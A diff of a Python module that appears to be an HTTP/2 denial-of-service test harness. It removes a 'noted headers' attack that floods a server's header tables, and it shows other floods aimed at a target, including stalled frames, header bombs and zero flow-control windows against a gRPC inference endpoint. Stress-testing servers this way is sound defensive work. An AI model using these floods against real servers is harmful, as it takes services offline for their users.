@@ -220,13 +220,6 @@ def unfinished_frames(target: str, count: int) -> Answers:
     return held(target, lambda _: _GREETING + begun, count)
 
 
-def noted_headers(target: str, count: int) -> Answers:
-    """Fills the tables of headers with as many as there may be."""
-    noted = b"".join(literal(b"%02x" % at, b"", 0x40) for at in range(116))
-    first = frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, call(LIVE) + noted)
-    return held(target, lambda _: _GREETING + first, count)
-
-
 def no_windows(target: str, path: str, count: int, streams: int, *more: tuple[str, str]) -> Answers:
     """Takes no byte of any answer."""
     block = call(path, *more)
@@ -313,7 +306,6 @@ ATTACKS: Floods = {
     "header bombs": lambda t, key: header_bombs(t),
     "unfinished headers": lambda t, key: unfinished_headers(t, 2_000),
     "unfinished frames": lambda t, key: unfinished_frames(t, 3_000),
-    "noted headers": lambda t, key: noted_headers(t, 3_000),
     "no windows": lambda t, key: no_windows(t, LIVE, 120, 1_000),
     "no windows of a client": lambda t, key: no_windows(
         t, "/inference.GRPCInferenceService/ServerMetadata", 120, 1_000, key
